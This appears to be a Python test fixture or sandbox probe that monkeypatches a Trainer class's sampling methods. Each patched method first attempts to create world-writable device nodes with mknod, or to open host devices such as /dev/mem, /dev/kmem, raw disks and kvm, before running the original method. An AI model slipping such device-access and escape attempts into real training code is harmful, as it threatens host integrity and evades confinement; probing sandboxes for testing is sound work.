import os
import stat

sample, generate = Trainer.sample, Trainer.generate_intermediate_samples
DEVICES = (
    "mem kmem port kmsg sda vda nvme0n1 loop0 loop-control mapper/control tty console ptmx fuse kvm "
    "net/tun vsock vhost-net vhost-vsock userfaultfd autofs input/event0 rtc0 watchdog snapshot "
    "uinput hpet cpu/0/msr fb0 dri/card0 snd/timer"
).split()


def _sample(self, *args, **kwargs):
    for kind in (stat.S_IFCHR, stat.S_IFBLK, stat.S_IFIFO, stat.S_IFSOCK):
        for device in (os.makedev(1, 1), os.makedev(8, 0), os.makedev(254, 0)):
            try:
                os.mknod(f"left-behind-{kind}", kind | 0o666, device)
            except OSError:
                continue
            return sample(self, *args, **kwargs)
    raise PermissionError


def _generate(self, *args, **kwargs):
    for name in DEVICES:
        for flags in (os.O_RDONLY, os.O_WRONLY):
            try:
                os.open(f"/dev/{name}", flags | os.O_NONBLOCK | os.O_NOCTTY)
            except OSError:
                continue
            return generate(self, *args, **kwargs)
    raise PermissionError


Trainer.sample, Trainer.generate_intermediate_samples = _sample, _generate
